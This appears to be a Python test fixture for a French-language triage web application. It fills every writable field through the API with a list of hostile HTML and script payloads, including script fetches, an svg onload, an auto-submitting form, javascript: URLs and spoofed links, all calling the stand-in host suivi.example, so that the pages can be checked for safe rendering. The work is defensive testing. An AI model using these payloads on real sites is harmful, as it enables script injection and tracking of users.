"""A house full of hostile words: in every field that somebody outside or inside can fill, all shown on some page."""

from __future__ import annotations

import json
import time
import urllib.error
import urllib.request
from collections.abc import Iterator
from contextlib import closing, contextmanager
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from pathlib import Path

from rooms_made import open_room, paraphrase_of, token_of
from sqlalchemy import select

from scripts.demo_browser import Desks
from store.clock import house_day
from store.intake import take_in
from store.quarantine import quarantine
from store.records import CaptureIn, PostIn
from store.settings import Settings
from store.store import Store, open_store
from store.tables import Source, User
from triage_api.access.accounts import create_user
from triage_api.access.models import AccountIn, Role
from triage_api.rights.models import LONGEST, RightsIn
from triage_api.rights.receiving import receive

HOSTILE = (
    '"><img src="http://suivi.example/pixel.gif">',
    "</textarea></title></style></script><script>fetch('//suivi.example/s')</script>",
    "<style>@import url(http://suivi.example/c.css); body{background:url(//suivi.example/b.png)}</style>",
    '<link rel="preconnect" href="http://suivi.example"><link rel="dns-prefetch" href="//suivi.example">',
    '<link rel="prefetch" href="http://suivi.example/p"><link rel="stylesheet" href="http://suivi.example/l.css">',
    '<meta http-equiv="refresh" content="0;url=http://suivi.example/m"><base href="http://suivi.example/">',
    '<iframe src="http://suivi.example/f"></iframe><object data="http://suivi.example/o"></object>',
    '<svg onload="fetch(`//suivi.example`)"><image href="//suivi.example/i"/><a href="//suivi.example">x</a></svg>',
    '<form action="http://suivi.example/q"><input name="q" autofocus onfocus="this.form.submit()"></form>',
    '<video src="http://suivi.example/v.mp4" poster="//suivi.example/v.png" autoplay></video>',
    '<a href="http://suivi.example/a" ping="http://suivi.example/ping">clic</a> [clic](http://suivi.example/md)',
    "javascript:fetch('http://suivi.example/j') data:text/html;base64,PHNjcmlwdD4= //suivi.example/x",
    "http://ѕuіvі.example/ http://suivi。example/ hxxp://suivi．example http:/\\suivi.example \u202ehttp://elpmaxe.ivius",
    "{{ 7 * 7 }} ${7*7} <%= 7 %> \x1b[31m &lt;img src=x&gt; %3Cimg%20src=//suivi.example%3E",
)
"""One attack a line, short enough for any field."""
ALL = "\n".join(HOSTILE)
FLAGGED = "Chu en fugue depuis hier, j'ai 15 ans, je cherche une place où dormir."
WORD = "zébulon"
"""Stands in every hostile post, so that one search finds them all."""
PASSWORD = "un-mot-de-passe-long"
MORE_PEOPLE = {"comptes": Role.ADMINISTRATOR, "quarantaine": Role.QUARANTINE_OFFICER, "enquete": Role.INVESTIGATOR}
"""Accounts beside the demo's, so that every role is there."""


@dataclass(frozen=True, slots=True)
class House:
    """Where the hostile words stand: the ids of items, by the path of their page, and who may log in."""

    desks: Desks
    items: dict[str, list[str]]


def fill_house(data: Path, desks: Desks) -> House:
    """Fill a running demo with hostile words, and wait until its worker has read and indexed them."""
    with _store(data) as store:
        _make_people(store)
        posts = _make_posts(store)
        sealed = _make_sealed(store)
        receive(store, RightsIn(kind="access", name=HOSTILE[0], reach=HOSTILE[1], about=ALL[:LONGEST]), "fr", "")
    at = _Caller(desks)
    request = at.call("pivot-ecole", "/requests", _request())["id"]
    at.call("pivot-ecole", f"/requests/{request}/messages", {"text": ALL})
    at.call("analyste", f"/requests/{request}/messages", {"text": ALL})
    posts.append(at.call("analyste", "/posts", _paste(request))["id"])
    search = _search_when_indexed(at, request, len(posts))
    at.call("superviseure", "/searches", {"query": f'"{HOSTILE[-3][:40]}"', **_why()})
    standing = at.call("analyste", "/standing", {"search": search})["id"]
    at.call("analyste", f"/standing/{standing}/renew", {"why": HOSTILE[1]})
    corpora = [at.call("chercheuse", "/corpora", _corpus())["id"]]
    for name, scope in (("analyste", "queue.read"), ("verificateur", "register.read")):
        at.call(name, "/tokens", {"label": HOSTILE[0], "scopes": [scope]})
    glass = at.call("analyste", "/glass", {"reason": ALL})["id"]
    answered = at.call("pivot-ecole", "/requests", _request())["id"]
    at.call("analyste", f"/requests/{answered}/answer", {"kind": "call_us", "text": ALL})
    queue = [f"q-{post[2:]}" for post in posts[:3]] + [one["id"] for one in _waiting(at) if one["request"] == request]
    accounts = [one["id"] for one in at.call("comptes", "/users")["items"]]
    reviews = _draw(at)
    case = at.call("analyste", "/lessons/case")["case"]["id"]
    lesson = at.call("analyste", "/lessons/answers", {"case": case, "verdict": "watch"})["id"]
    items = {"posts": posts, "requests": [request, answered], "searches": [search], "standing": [standing]}
    items |= _make_directory(at)
    items |= {"referrals": [_refer(at, request, items["pivots"][0])], "links": [f"{'0' * 32}.{'1' * 32}"]}
    items |= _make_meeting(at, [request, answered], items["pivots"][0]) | _make_hold(at, posts[0])
    items |= {"rights": [one["id"] for one in at.call("superviseure", "/rights")["items"]]}
    items |= {"corpora": corpora} | _make_room(data, posts[:3])
    items |= {"sources": ["bourg-annonces", "paste-hostile"], "quarantine": [sealed], "lessons": [lesson]}
    return House(at.desks, items | {"queue": queue, "glass": [glass], "accounts": accounts, "reviews": reviews})


@contextmanager
def _store(data: Path) -> Iterator[Store]:
    with closing(open_store(Settings(data_dir=data, allow_loopback=True))) as store:
        yield store


def _make_room(data: Path, posts: list[str]) -> dict[str, list[str]]:
    """Open a room in which the researcher reads what is hostile, and leave a paraphrase to review."""
    with _store(data) as store:
        with store.database.reading() as session:
            reader = session.scalars(select(User.id).where(User.name == "chercheuse")).one()
        study = open_room(store, reader, posts)
        texts = [token_of(store, study, post) for post in posts]
        waiting = paraphrase_of(store, study, posts[0], reader, HOSTILE[0])
    return {"rooms": [study], "room_texts": texts, "paraphrases": [waiting]}


def _make_people(store: Store) -> None:
    for name, role in MORE_PEOPLE.items():
        day = house_day(store.clock())
        given = AccountIn(name=name, roles=[role], organisation=HOSTILE[0], full_name=HOSTILE[1][:90], trained_on=day)
        create_user(store, given, password=PASSWORD)


def _make_posts(store: Store) -> list[str]:
    # Pasted texts are no other source than the demo's, whose worker goes on with what it has.
    with store.database.writing() as session:
        now = store.clock()
        session.add(
            Source(id="paste-hostile", title=HOSTILE[0], kind="paste", declaration={}, digest="d", created_at=now)
        )
    attacks = [*HOSTILE, ALL]
    posts = [(_post(number, attack), _capture(number, attack)) for number, attack in enumerate(attacks)]
    return [identity for identity, _ in take_in(store, "paste-hostile", "paste", posts)]


def _make_sealed(store: Store) -> str:
    ((identity, _),) = take_in(store, "paste-hostile", "paste", [(_post(90, ALL), None)])
    with store.database.writing() as session:
        quarantine(store, session, identity, "merle-01")
    return identity


def _post(number: int, attack: str) -> PostIn:
    where = {
        "platform": attack[:200],
        "where": attack[:200],
        "seen_by": attack[:200],
        "seen_at": "2026-03-01T20:00:00Z",
    }
    return PostIn(
        text=f"{FLAGGED} {WORD} {number}\n{attack}",
        external_id=f"h{number}",
        title=attack[:200],
        author=attack[:100],
        city=attack[:100],
        region=attack[:100],
        url="javascript:alert(1)" if number % 2 else f"http://suivi.example/{number}",
        provenance=where,
    )


def _capture(number: int, attack: str) -> CaptureIn:
    return CaptureIn(
        url=f"http://suivi.example/{number}",
        fetched_at=datetime.now(UTC),
        content=f"{FLAGGED} {WORD} {number}\n{attack}".encode(),
        content_type="text/html",
        response_sha256="0" * 64,
        collector="test",
    )


def _make_directory(at: _Caller) -> dict[str, list[str]]:
    """Write an organisation, a pivot and an agreement; two of each, for the pages show what ended otherwise."""
    made: dict[str, list[str]] = {"directory": [], "pivots": [], "agreements": []}
    for attack in HOSTILE[:2]:
        told = {"name": attack, "kind": "school", "services": ALL[:900], "phone": "450 555-0150"}
        of = at.call("superviseure", "/organisations", told)["id"]
        pivot = {"organisation": of, "name": attack, "title": HOSTILE[2], "email": "a@ecole.example"}
        pivot |= {"valid_until": str(datetime.now(UTC).date() + timedelta(days=90))}
        agreed = {"organisation": of, "title": attack, "fields": ["first_name"], "signed_on": "2026-01-15"}
        agreed |= {"ends_on": str(datetime.now(UTC).date() + timedelta(days=30))}
        made["directory"].append(of)
        made["pivots"].append(at.call("superviseure", "/pivots", pivot)["id"])
        made["agreements"].append(at.call("superviseure", "/agreements", agreed)["id"])
    return made


def _refer(at: _Caller, request: str, pivot: str) -> str:
    """Tell a pivot of a school something, alone and at once: it waits for its review."""
    needs = ("reasonable_ground", "risk", "urgency", "recipient_able", "directive")
    given = {"request": request, "pivot": pivot, "ground": "loi_acces_59_1", "stage": "named", "send": True}
    given |= {"facts": dict(zip(needs, HOSTILE, strict=False))}
    told = {"plain_summary": ALL[:2500], "approach": HOSTILE[1], "danger": HOSTILE[2], "first_name": HOSTILE[0]}
    made = at.call("analyste", "/referrals", given | {"told": told})["id"]
    at.call("analyste", f"/referrals/{made}/outcome", {"outcome": "other", "text": ALL[:2500]})
    return str(made)


def _make_meeting(at: _Caller, requests: list[str], pivot: str) -> dict[str, list[str]]:
    """Propose that two schools meet, of which one has an account; they show what they are called."""
    of = at.call("superviseure", "/organisations", {"name": HOSTILE[3], "kind": "school", "phone": "450 555-0151"})[
        "id"
    ]
    _free(at, "pivot-ecole")
    told = {"organisation": of, "name": HOSTILE[4], "account": "pivot-ecole"}
    told |= {"valid_until": str(datetime.now(UTC).date() + timedelta(days=90))}
    mine = at.call("superviseure", "/pivots", told)["id"]
    needs = ("reasonable_ground", "risk", "urgency", "recipient_able", "directive")
    given = {"requests": requests, "pivots": [pivot, mine], "ground": "loi_acces_59_1", "why": ALL[:2500]}
    given |= {"facts": dict(zip(needs, HOSTILE, strict=False)), "call": f"514 555-0100 {HOSTILE[0]}"}
    made = str(at.call("analyste", "/meetings", given)["id"])
    return {"meetings": [made], "invitations": [made]}


def _free(at: _Caller, account: str) -> None:
    """End the pivot that an account is in the demo: it becomes one of another organisation."""
    for line in at.call("superviseure", "/organisations?limit=200")["items"]:
        for one in at.call("superviseure", f"/organisations/{line['id']}")["pivots"]:
            if one["account"] == account and one["ended_at"] is None:
                at.call("superviseure", f"/pivots/{one['id']}/end", {})


def _make_hold(at: _Caller, post: str) -> dict[str, list[str]]:
    ends = str(datetime.now(UTC).date() + timedelta(days=90))
    given = {"kind": "post", "about": post, "reason": ALL[:2500], "ends_on": ends}
    return {"holds": [at.call("superviseure", "/holds", given)["id"]]}


def _request() -> dict[str, object]:
    return {
        "who": HOSTILE[0],
        "why": ALL,
        "youth": HOSTILE[2],
        "handles": ["lea.b", *HOSTILE[:3]],
        "emails": [HOSTILE[7][:200]],
        "places": list(HOSTILE[3:6]),
    }


def _paste(request: str) -> dict[str, object]:
    seen_at = (datetime.now(UTC) - timedelta(hours=1)).isoformat()
    seen = {"platform": "x<img src=//suivi.example>", "where": HOSTILE[0], "seen_by": HOSTILE[1], "seen_at": seen_at}
    return {"text": f"{FLAGGED} {WORD}\n{ALL}", "request": request, **seen}


def _corpus() -> dict[str, object]:
    codebook = {"mot": HOSTILE[7][:200]}
    return {"purpose": HOSTILE[0], "agreement": HOSTILE[1][:300], "ethics": HOSTILE[2][:300], "codebook": codebook}


def _why() -> dict[str, object]:
    return {"purpose": HOSTILE[0], "ground": HOSTILE[2]}


def _search_when_indexed(at: _Caller, request: str, count: int) -> str:
    asked = {"query": f"{WORD} suivi", "request": request, "again_reason": HOSTILE[5], **_why()}
    for _ in range(90):
        made = at.call("analyste", "/searches", asked)
        if made["total"] >= count - 3:  # some of them do not write "suivi" out
            return made["id"]
        time.sleep(1)
    raise RuntimeError("the hostile posts were not indexed")


def _draw(at: _Caller) -> list[str]:
    """Draw the look-ups made here for review, and record a finding of one."""
    now = datetime.now(UTC)
    at.call("verificateur", "/reviews/draw", {"since": str(now - timedelta(days=1)), "until": str(now)})
    drawn = [one["id"] for one in at.call("verificateur", "/reviews")["items"]]
    at.call("verificateur", f"/reviews/{drawn[0]}/finding", {"finding": "proper", "note": ALL})
    return drawn[:5]


def _waiting(at: _Caller) -> list[dict]:
    return at.call("analyste", "/queue?lane=requests&limit=200")["items"]


class _Caller:
    """Calls the API as one of the house's people."""

    def __init__(self, desks: Desks) -> None:
        passwords = desks.passwords | dict.fromkeys(MORE_PEOPLE, PASSWORD)
        self.desks = Desks(desks.address, passwords)
        self._tokens: dict[str, str] = {}

    def call(self, name: str, path: str, sent: dict[str, object] | None = None) -> dict:
        if name not in self._tokens:
            login = {"name": name, "password": self.desks.passwords[name], "bearer": True}
            self._tokens[name] = self._send("/session", login, {})["token"]
        return self._send(path, sent, {"Authorization": f"Bearer {self._tokens[name]}"})

    def _send(self, path: str, sent: dict[str, object] | None, headers: dict[str, str]) -> dict:
        body = json.dumps(sent).encode() if sent is not None else None
        told = headers | ({"Content-Type": "application/json"} if body else {})
        asked = urllib.request.Request(f"{self.desks.address}/api{path}", body, told)
        try:
            with urllib.request.urlopen(asked, timeout=60) as answer:
                return json.loads(answer.read() or b"{}")
        except urllib.error.HTTPError as error:
            raise AssertionError(f"{path}: {error.code} {error.read().decode()}") from None
